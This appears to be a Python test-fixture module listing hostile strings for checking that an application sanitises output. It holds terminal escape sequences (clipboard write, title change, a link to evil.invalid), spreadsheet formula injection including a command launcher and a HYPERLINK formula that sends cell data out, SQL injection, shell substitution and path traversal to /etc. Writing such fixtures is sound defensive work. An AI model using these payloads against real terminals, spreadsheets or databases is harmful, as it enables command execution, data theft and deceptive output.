"""Words that would like to do something: to the terminal, the screen, a table, a query, a path.

Each bears a mark of its own, `ZEBRA07`, so that one can see that it was shown, and names the bytes
that must never come to a terminal because of it.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


class Kind(StrEnum):
    """What they would act on."""

    TERMINAL = "terminal"
    SIGNS = "signs"
    MARKUP = "markup"
    TABLE = "table"
    QUERY = "query"
    PATH = "path"
    SIZE = "size"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One of them."""

    name: str
    kind: Kind
    text: str
    never: tuple[str, ...] = ()
    """What may stand in nothing that is sent to a terminal."""


_ALL: tuple[tuple[Kind, str, str, tuple[str, ...]], ...] = (
    (Kind.TERMINAL, "title", f"@@ {ESC}]0;owned77{BEL} after", (f"{ESC}]0;owned77",)),
    (Kind.TERMINAL, "title, other end", f"@@ {ESC}]2;owned78{ST} after", (f"{ESC}]2;owned78",)),
    (Kind.TERMINAL, "clipboard", f"@@ {ESC}]52;c;b3duZWQ3OQ=={BEL} after", (f"{ESC}]52;",)),
    (
        Kind.TERMINAL,
        "link",
        f"@@ {ESC}]8;;http://evil.invalid/{ST}press here{ESC}]8;;{ST}",
        (f"{ESC}]8;",),
    ),
    (Kind.TERMINAL, "palette", f"@@ {ESC}]4;1;rgb:ff/00/77{BEL}", (f"{ESC}]4;",)),
    (Kind.TERMINAL, "move", f"@@ {ESC}[77;33H over there", (f"{ESC}[77;33H",)),
    (Kind.TERMINAL, "clear", f"@@ {ESC}[2J{ESC}[3J gone", (f"{ESC}[2J", f"{ESC}[3J")),
    (Kind.TERMINAL, "colour", f"@@ {ESC}[38;5;197m pink {ESC}[0m", (f"{ESC}[38;5;197m",)),
    (Kind.TERMINAL, "other page", f"@@ {ESC}[?1049l shell", (f"{ESC}[?1049l shell",)),
    (Kind.TERMINAL, "questions", f"@@ {ESC}[6n{ESC}[c ask", (f"{ESC}[6n", f"{ESC}[c")),
    (Kind.TERMINAL, "eight bits", "@@ \x9b77;34H eight bit", ("\x9b",)),
    (Kind.TERMINAL, "eight bits, title", "@@ \x9d0;owned80\x9c eight bit", ("\x9d", "\x9c")),
    (Kind.TERMINAL, "device", f"@@ {ESC}P+q544e{ST} dcs", (f"{ESC}P",)),
    (Kind.TERMINAL, "application", f"@@ {ESC}_Gf=24;AAAA{ST} apc", (f"{ESC}_",)),
    (Kind.TERMINAL, "reset", f"@@ {ESC}c reset", (f"{ESC}c",)),
    (Kind.TERMINAL, "letters", f"@@ {ESC}(0 lqk {ESC}(B", (f"{ESC}(0",)),
    (Kind.TERMINAL, "bells", f"@@ x{BEL}{BEL}{BEL} bells", (BEL,)),
    (Kind.TERMINAL, "backspace", "@@ paid 100\b\b\b999", ("\b",)),
    (Kind.TERMINAL, "return", "@@ stayed in\rwent out", ("in\rwent",)),
    (Kind.TERMINAL, "shifted", "@@ \x0eshifted\x0f", ("\x0e", "\x0f")),
    (Kind.TERMINAL, "nothing", "@@ a\x00b", ("\x00",)),
    (Kind.TERMINAL, "delete", "@@ a\x7fb", ("\x7f",)),
    (Kind.TERMINAL, "feeds", "@@ a\x0bb\x0cc", ("\x0b", "\x0c")),
    (Kind.SIGNS, "turned round", "@@ pay \u202e0001\u202c now", ("\u202e", "\u202c")),
    (Kind.SIGNS, "set apart", "@@ \u2066abc\u2069", ("\u2066", "\u2069")),
    (Kind.SIGNS, "no width", "@@ a\u200bb\u200dc\ufeffd", ("\ufeff",)),
    (Kind.SIGNS, "piled up", "@@ Z" + "\u0301\u0316\u035c" * 40 + "algo", ()),
    (Kind.SIGNS, "wide", "@@ \u5bb6\u5ead \U0001f468\u200d\U0001f469\u200d\U0001f467", ()),
    (Kind.SIGNS, "hidden", "@@ " + "".join(chr(0xE0000 + ord(c)) for c in "hidden"), ()),
    (Kind.SIGNS, "no letter", "@@ \ufffd\ufffe end", ()),
    (Kind.SIGNS, "lines", "@@ one\u2028two\u2029three\x85four", ("\u2028", "\u2029", "\x85")),
    (Kind.MARKUP, "colour", "[red]@@[/red]", ()),
    (Kind.MARKUP, "close", "[/]@@", ()),
    (Kind.MARKUP, "close a path", "[/etc/passwd] @@", ()),
    (Kind.MARKUP, "leave on a click", "[@click=app.leave]@@[/]", ()),
    (Kind.MARKUP, "picture on a click", "[@click=app.screenshot]@@[/]", ()),
    (Kind.MARKUP, "link", "[link='http://evil.invalid/']@@[/link]", (f"{ESC}]8;",)),
    (Kind.MARKUP, "never closed", "@@ [bold", ()),
    (Kind.MARKUP, "list", "@@ [true, false] [0] [x=1] [room=2]", ()),
    (Kind.MARKUP, "escaped", "\\[red]@@ \\\\[b]", ()),
    (Kind.MARKUP, "variable", "[$error]@@[/]", ()),
    (Kind.MARKUP, "picture", "@@ :warning:", ()),
    (Kind.MARKUP, "blink", "[blink reverse]@@[/]", ()),
    (Kind.MARKUP, "nested", "[red][blue][/red]@@[/blue]", ()),
    (Kind.TABLE, "sum", "=1+1 @@", ()),
    (Kind.TABLE, "command", "=cmd|' /C calc'!A0 @@", ()),
    (Kind.TABLE, "plus", "+1 @@", ()),
    (Kind.TABLE, "minus", "-2+3+cmd @@", ()),
    (Kind.TABLE, "at", "@SUM(A1) @@", ()),
    (Kind.TABLE, "tab", "\t=1 @@", ()),
    (Kind.TABLE, "return", "\r=1 @@", ()),
    (Kind.TABLE, "new line", "\n=1 @@", ()),
    (Kind.TABLE, "full width", "\uff1d1+1 @@", ()),
    (Kind.TABLE, "link", '=HYPERLINK("http://evil.invalid?x="&A1,"ok") @@', ()),
    (Kind.TABLE, "quote", '"=1","@@', ()),
    (Kind.TABLE, "semicolon", "@@;=1+1", ()),
    (Kind.TABLE, "less than nothing", "-5 @@", ()),
    (Kind.TABLE, "prefix", "+44 is a prefix @@", ()),
    (Kind.QUERY, "quote", "@@'; drop table note; --", ()),
    (Kind.QUERY, "words of a search", '@@ AND OR NOT NEAR( "unbalanced * ^ : {', ()),
    (Kind.QUERY, "column", "body: -@@ ((", ()),
    (Kind.QUERY, "like", "@@ 100% _ \\ [", ()),
    (Kind.QUERY, "nothing", "@@\x00'--", ("\x00",)),
    (Kind.QUERY, "places to fill", "@@ %s %(x)s {0} {x!r} ${HOME} `id`", ()),
    (Kind.PATH, "up", "../../../../etc/@@", ()),
    (Kind.PATH, "from the root", "/etc/@@", ()),
    (Kind.PATH, "nothing", "a\x00@@", ("\x00",)),
    (Kind.PATH, "somebody's", "~root/@@", ()),
    (Kind.PATH, "device", "/dev/stdin @@", ()),
    (Kind.PATH, "long", "a" * 300 + "@@", ()),
    (Kind.PATH, "backwards", "..\\..\\@@", ()),
    (Kind.PATH, "new line", "a\n@@", ()),
    (Kind.SIZE, "a line of 100,000", "@@ " + "x" * 100_000, ()),
    (Kind.SIZE, "20,000 lines", "@@\n" + "y\n" * 20_000, ()),
    (Kind.SIZE, "a wide word", "@@ " + "\u754c" * 20_000, ()),
    (Kind.SIZE, "a million", "@@ " + "word " * 200_000, ()),
    (Kind.SIZE, "nothing", "", ()),
    (Kind.SIZE, "spaces", "   \n\t  ", ()),
)

HOSTILE = tuple(
    Hostile(name, kind, text.replace("@@", f"ZEBRA{number:02d}"), never)
    for number, (kind, name, text, never) in enumerate(_ALL, 1)
)
FITTING = tuple(one for one in HOSTILE if one.kind is not Kind.SIZE)
"""Those that a note has room for."""
NEVER = tuple(sorted({word for one in HOSTILE for word in one.never}))
"""What may never come to a terminal."""
